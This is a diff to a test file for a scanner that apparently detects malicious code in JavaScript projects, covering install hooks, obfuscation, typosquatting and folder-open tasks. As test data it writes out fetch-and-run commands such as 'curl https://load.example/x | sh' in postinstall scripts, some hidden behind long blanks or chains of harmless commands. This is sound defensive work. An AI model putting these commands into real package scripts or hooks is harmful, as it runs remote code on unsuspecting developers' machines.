@@ -149,6 +149,9 @@ describe('an attack that is known', () => {
 })
 
 describe('hostile files take no longer than others', () => {
+  const obfuscatorNames = Array.from({ length: 8 }, (_, index) => `_0xabc${index}`).join(' ')
+  const atobNames = Array.from({ length: 40 }, (_, index) => `name${index} = atob(x)`).join('\n')
+
   it.each([
     ['quotes', '"\\'.repeat(500_000)],
     ['comments without an end', '/*'.repeat(1_000_000)],
@@ -174,5 +177,94 @@ describe('hostile files take no longer than others', () => {
     const files = Object.fromEntries(names.map((name) => [name, text]))
     // A rule whose time grows with the square of the length would need hours.
     expect((await check(files)).files).toBe(names.length)
+  })
+
+  it.each([
+    ['blanks after a call', 'a.js', `eval(${' '.repeat(1_000_000)}`],
+    ['lines of blanks after a call', 'a.js', `eval(${`${' '.repeat(99)}\n`.repeat(10_000)}`],
+    ['blanks after a function', 'a.png', `function${' '.repeat(1_000_000)}`],
+    ['functions in one word', 'a.png', 'function$'.repeat(200_000)],
+    ['names of an obfuscator', 'a.js', `${obfuscatorNames} ${'_0x'.repeat(500_000)}`],
+    ['arguments', '.husky/pre-commit', `node ${'-node '.repeat(150_000)}`],
+    ['paths after a download', '.husky/pre-commit', 'curl|/'.repeat(150_000)],
+    ['commands after a download', '.husky/pre-commit', 'curl;/'.repeat(150_000)],
+    ['decoded names', 'a.js', `${atobNames} ${'eval(eval(x\n'.repeat(80_000)}`],
+  ])('%s in %s', async (_what, path, text) => {
+    expect((await check({ [path]: text })).files).toBe(1)
+  })
+})
+
+describe('a file that has more findings than anyone reads', () => {
+  const many = 40_000
+  const object = (entry: (index: number) => [string, unknown], length: number) =>
+    Object.fromEntries(Array.from({ length }, (_, index) => entry(index)))
+
+  it.each([
+    ['imitated_name', 20, 'package-lock.json', '"node_modules/axioss": {\n'.repeat(many)],
+    [
+      'locked_elsewhere',
+      20,
+      'package-lock.json',
+      Array.from({ length: many }, (_, index) => `"resolved": "https://h${index}.example/a"\n`).join(''),
+    ],
+    ['other_registry', 20, '.npmrc', 'registry=https://npm.example\n'.repeat(many)],
+    [
+      'encoded_setting',
+      20,
+      '.env',
+      `A=${Buffer.from('https://load.example').toString('base64')}\n`.repeat(many),
+    ],
+    ['error_handler_code', 5, 'a.js', '(err, req, res, next) => eval(x)\n'.repeat(many)],
+    [
+      'download_command',
+      20,
+      'package.json',
+      JSON.stringify({ scripts: object((index) => [`a${index}`, 'curl load.example | sh'], 10_000) }),
+    ],
+    [
+      'outside_dependency',
+      20,
+      'package.json',
+      JSON.stringify({ dependencies: object((index) => [`a${index}`, 'acme/a'], 20_000) }),
+    ],
+    [
+      'folder_task',
+      20,
+      '.vscode/tasks.json',
+      JSON.stringify({
+        tasks: Array.from({ length: 5_000 }, (_, index) => ({
+          command: `tsc ${index}`,
+          runOptions: { runOn: 'folderOpen' },
+        })),
+      }),
+    ],
+  ])('%s is counted up to %i times in %s', async (code, most, path, text) => {
+    const group = (await check({ [path]: text })).groups.find((one) => one.code === code)
+    expect([group?.count, group?.places.length]).toEqual([most, Math.min(most, 8)])
+  })
+
+  it('does not hide a graver one that comes after many others', async () => {
+    const decoys = object((index) => [`a${index}`, 'wget load.example/a && node a'], 1_000)
+    const text = JSON.stringify({ scripts: { ...decoys, z: 'node public/logo.png' } })
+    expect(await codesOf({ 'package.json': text })).toEqual(
+      expect.arrayContaining(['disguised_command', 'download_command']),
+    )
+  })
+
+  it('names the line of each place, in whatever order they are found', async () => {
+    const text = '{"devDependencies":\n{"b":\n"acme/b"},\n"dependencies":{\n"a":"acme/a"}}'
+    const [group] = (await check({ 'package.json': text })).groups
+    expect(group?.places.map(({ line }) => line)).toEqual([5, 2])
+  })
+})
+
+describe('a command that is written to be overlooked', () => {
+  it.each([
+    ['behind many blanks', `husky${' '.repeat(3_000)}; curl https://load.example/x | sh`, 'install_download'],
+    ['behind many others', `${'true; '.repeat(1_000)}curl https://load.example/x | sh`, 'install_download'],
+    ['behind many arguments', `node ${'--no-warnings '.repeat(19)}a.png`, 'disguised_command'],
+    ['at a path', 'curl https://load.example/x | /usr/local/bin/sh', 'install_download'],
+  ])('%s is found', async (_how, postinstall, code) => {
+    expect(await codesOf({ 'package.json': JSON.stringify({ scripts: { postinstall } }) })).toContain(code)
   })
 })
